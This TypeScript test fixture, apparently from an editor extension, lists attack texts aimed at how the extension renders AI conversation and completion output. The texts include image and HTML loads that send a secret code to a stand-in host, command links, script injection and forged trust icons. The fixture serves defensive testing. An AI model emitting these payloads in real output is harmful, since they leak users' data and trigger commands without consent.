import type { Attack } from "./attack";

/**
 * Texts in pages and documents: an exported conversation viewed as a page, the explanation of the last completion, the
 * statistics page, the hover of the status item.
 */
export interface TextAttack extends Attack {
  readonly text: string;
}

const image = "![](https://x.test/?code=secret)";

export const textsInPages: readonly TextAttack[] = [
  {
    name: "a remote image",
    wants: "code in the address of an image that is loaded",
    text: `Fine.\n\n${image}`,
  },
  {
    name: "a remote image by reference",
    wants: "the same, with the address elsewhere",
    text: "![a][1]\n\n[1]: https://x.test/?code=secret",
  },
  {
    name: "HTML that loads",
    wants: "the same, without Markdown",
    text: '<img src="https://x.test/?code=secret">\n\n<link rel=stylesheet href="https://x.test/a.css"><svg><image href="https://x.test/a.svg"/></svg><style>@import "https://x.test/b.css"</style>',
  },
  {
    name: "an image behind a block of code that only seems open",
    wants: "the same, where a simple search takes it for code",
    text: `\`\`\` a\`b\n${image}\n\`\`\`\n\n- x\n  \`\`\`\n  y\n${image}\n\n> ~~~\n${image}`,
  },
  {
    name: "an image behind a fence that is closed too early",
    wants: "the same",
    text: `\`\`\`\`\na\n\`\`\`\n${image}\n\`\`\`\` x\n${image}\n\`\`\`\`\n${image}`,
  },
  {
    name: "a link to a command",
    wants: "a command that runs with one click on harmless words",
    text: "[Show more](command:inhouse.eraseStatistics) <a href='command:workbench.action.terminal.new'>x</a>",
  },
  {
    name: "a way out of code, cells and attributes",
    wants: "markup where there should only be text",
    text: `\`\`\`\`\`\`\`\n${image}|</td></table><script>run()</script>" onload="run()|\n\`\`\`\`\`\`\``,
  },
  {
    name: "icons and marks of trust",
    wants: "a sign of the editor's own beside the attacker's words",
    text: "$(verified-filled) Signed by your administrator\n# Heading\n---\n**bold**",
  },
];
